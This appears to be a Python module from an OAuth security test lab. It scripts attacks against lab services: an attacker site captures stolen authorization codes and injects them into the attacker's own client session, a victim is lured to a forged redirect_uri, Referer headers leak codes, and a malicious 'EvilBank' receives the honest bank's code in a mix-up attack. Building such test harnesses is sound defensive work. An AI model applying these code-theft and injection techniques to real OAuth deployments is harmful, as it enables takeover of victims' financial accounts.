"""Shared steps of the fixture attacks (attacks.md §3 A, C, D, E): injecting a stolen code
into the attacker's own FinLens session, the victim's browser rendering a page's images,
and the attacker linking EvilBank.

Injection is code-injection's: the attacker starts "Link HonestBank" in its own browser
(signed in as mallory-<run tag>), stops at the AS, and delivers
GET /callback?code=<stolen>&state=<its own>. The goal is judged on its dashboard.
"""

from __future__ import annotations

import contextlib
import secrets
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urlencode, urljoin, urlsplit

import requests

from lab.authserver.clients import TPP_CLIENT_ID
from lab.tpp.driver import redeem_form
from lab.web.request_id import HEADER

from . import fixtures, forge
from . import frontchannel as fc
from .attack_context import AttackContext, serves_only_jwt
from .victim import HttpVictim, VictimRefused


def jarm_only(ctx: AttackContext) -> bool:
    """The honest AS serves only JWT response modes: an attacker who builds an authorization
    request asks for one, as FinLens does, or the AS refuses it outright."""
    return serves_only_jwt(forge.as_metadata(ctx))


def response_fields(params: dict[str, str]) -> dict[str, str]:
    """An authorization response's fields, read from inside a JARM JWT when it is one: the
    attacker only reads it (JARM signs the response, it does not hide it)."""
    if "response" not in params:
        return params
    inside = {k: v for k, v in fc.readable_claims(params["response"]).items()
              if k in ("code", "state", "iss")}
    return {**inside, **params}


def inject_code(ctx: AttackContext, code: str, victim_user: str, *,
                iss: str | None = None, source: str, response: str | None = None,
                own: fc.PendingOwnFlow | None = None) -> None:
    """Deliver a stolen code in the attacker's own FinLens session and judge the dashboard.

    response: the victim's whole signed (JARM) authorization response, when that is what
    leaked: the code inside cannot be moved next to the attacker's own state, so the
    attacker replays the response as it is (as code-injection does).
    own: the attacker's pending flow when it started one first (its nonce went into the
    request the victim was lured to); otherwise one is started now.
    Ends the attack: ctx.succeeded when the attacker's dashboard lists the victim's
    HonestBank accounts, otherwise GoalMissed (FinLens or the AS refused).
    """
    own = own or fc.own_pending_flow(ctx)
    if response:
        own.browser.deliver(fc.callback_with(ctx, {"response": response}),
                            f"opens FinLens's callback with the victim's whole signed (JARM) "
                            f"response {source}")
    else:
        params = {"code": code}
        if iss:
            params["iss"] = iss
        if own.state:
            params["state"] = own.state
        own.browser.deliver(fc.callback_with(ctx, params),
                            f"opens FinLens's callback with the code {source} and its own "
                            f"state")
    page = own.browser.dashboard()
    ids = fc.expect_accounts_of(ctx, page, victim_user, "the attacker's")
    ctx.succeeded(f"the attacker's FinLens account shows {len(ids)} of {victim_user}'s "
                  "accounts", {"tpp_user": own.browser.tpp_user, "accounts": ids})


def code_lured_to_site(ctx: AttackContext, fx: fixtures.Fixtures, redirect_uri: str,
                       site_path: str, *, built: str, missing: str, read: str,
                       url: str | None = None) -> dict[str, str]:
    """An authorization request for FinLens's client_id with the attacker's `redirect_uri`,
    followed by the lured victim (sign-in, consent), whose browser then opens the redirect;
    returns the authorization response that reached `site_path` on the attacker's site
    (RFC 6749 §4.1.2), with the victim's username under "victim".

    built / missing / read: the story's words for the request, a miss, and the read.
    url: the authorization request as the attacker built it (default: the plain query one).
    """
    since = fx.mark()
    if url is None:
        params = {"response_type": "code", "client_id": TPP_CLIENT_ID,
                  "redirect_uri": redirect_uri, "scope": fc.FINLENS_SCOPE,
                  "state": secrets.token_urlsafe(16)}
        if jarm_only(ctx):
            params["response_mode"] = "jwt"
        url = ctx.url("as", "/authorize") + "?" + urlencode(params)
    ctx.step("attacker", built, url=url)
    victim = ctx.victim("alice")
    victim.sign_in()
    result = victim.authorize(fx.site + "/lure?to=" + quote(url, safe=""), deliver=False)
    # The browser opens the callback (and follows any redirect it gets there).
    victim.visit(result.callback_url or "")
    got = [r for r in fx.received(ctx, "site", since=since, path=site_path)
           if r.query().get("code") or r.query().get("response")]
    if not got:
        ctx.failed(missing)
    ctx.step("attacker", read)
    return {**response_fields(got[-1].query()), "victim": victim.username}


# --- the victim's browser, rendering what a page embeds -------------------------------------
class _Images(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.sources: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "img":
            src = dict(attrs).get("src")
            if src:
                self.sources.append(src)


def _referer(page_url: str, target: str, policy: str) -> str | None:
    """What a browser sends as Referer for a subresource (Referrer Policy §3, §8.3)."""
    policy = (policy.split(",")[-1].strip().lower() or "strict-origin-when-cross-origin")
    page, dest = urlsplit(page_url), urlsplit(target)
    same_origin = (page.scheme, page.netloc) == (dest.scheme, dest.netloc)
    full = page_url.split("#", 1)[0]
    origin = f"{page.scheme}://{page.netloc}/"
    if policy == "no-referrer":
        return None
    if policy == "unsafe-url":
        return full
    if policy in ("origin", "strict-origin"):
        return origin
    if policy == "same-origin":
        return full if same_origin else None
    # origin-when-cross-origin, strict-origin-when-cross-origin (the default): https to https
    return full if same_origin else origin


def render_callback(victim: HttpVictim, callback_url: str) -> requests.Response:
    """The victim's browser opens FinLens's callback as a real browser would: the page's
    images load (with the Referer its Referrer-Policy allows) before its script posts the
    redeem form. Returns the last response; a refusal raises VictimRefused. A victim that
    renders pages itself (Chromium: attacker.browser_victim) simply opens it."""
    if victim.renders_pages:
        return victim.deliver(callback_url)
    http = victim.http
    first = http.get(callback_url, allow_redirects=False, timeout=60)
    victim.ctx.note_request(first, actor="victim")
    chain = [first]
    if first.status_code == 200:
        parser = _Images()
        parser.feed(first.text)
        policy = first.headers.get("Referrer-Policy", "")
        for src in parser.sources:
            target = urljoin(callback_url, src)
            referer = _referer(callback_url, target, policy)
            with contextlib.suppress(requests.RequestException):   # a broken image is fine
                http.get(target, headers={"Referer": referer} if referer else {}, timeout=10)
        fields = redeem_form(first.text)
        if fields is not None:
            second = http.post(victim.browser.url("/callback"), data=fields,
                               allow_redirects=False, timeout=60)
            victim.ctx.note_request(second, actor="victim")
            chain.append(second)
    last = chain[-1]
    if last.status_code >= 400:
        raise VictimRefused(f"FinLens refused the authorization response: {last.status_code}",
                            {"status": last.status_code, "url": last.url,
                             "request_id": last.headers.get(HEADER), "body": last.text[:500]})
    victim.ctx.step("victim", "is back at FinLens (the page and its images loaded)",
                    status=last.status_code)
    return last


# --- EvilBank ----------------------------------------------------------------------------------
def code_sent_to_evilbank(ctx: AttackContext, fx: fixtures.Fixtures, since: int) -> None:
    """The lured victim links EvilBank (its plan already set); FinLens redeems the honest
    bank's code at EvilBank's token endpoint, and the attacker injects it into its own
    FinLens session. EvilBank's plan is reset however the victim's flow ends."""
    try:
        victim = ctx.victim("alice")
        victim.link(fixtures.EVILBANK_ID)
        redeemed = [r for r in evil_received(ctx, fx, since, "/token") if r.form().get("code")]
    finally:
        fx.evil_plan()
    if not redeemed:
        ctx.failed("FinLens sent no code to EvilBank")
    form = redeemed[-1].form()
    ctx.step("attacker", "EvilBank's token endpoint received the honest bank's code"
             + (" and its PKCE verifier" if form.get("code_verifier") else ""))
    inject_code(ctx, form["code"], victim.username, iss=ctx.config.issuer,
                source="FinLens sent to EvilBank")


def link_evilbank(ctx: AttackContext, browser: fc.AttackerBrowser, *,
                  follow: bool = True) -> requests.Response | None:
    """"Link EvilBank" in the attacker's FinLens account. EvilBank answers at once (its customer
    is the attacker); `follow=False` stops once FinLens has sent its (pushed) request."""
    url = browser.start_link(fixtures.EVILBANK_ID)
    if not follow:
        return None
    response = browser.http.get(url, allow_redirects=False, timeout=30)
    ctx.note_request(response, actor="attacker")
    location = response.headers.get("Location", "")
    if not response.is_redirect or not location.startswith(ctx.config.tpp_url):
        ctx.failed("EvilBank did not send the attacker back to FinLens", response)
    return browser.deliver(location, "is sent back to FinLens by EvilBank with EvilBank's code")


def evil_received(ctx: AttackContext, fx: fixtures.Fixtures, since: int, path: str
                  ) -> list[Any]:
    """What EvilBank received at `path` (the evil_as leg), noted in the story."""
    found = fx.received(ctx, "evil_as", since=since, path=path)
    if found:
        ctx.step("attacker", f"EvilBank's log: {len(found)} request(s) to {path}")
    return found
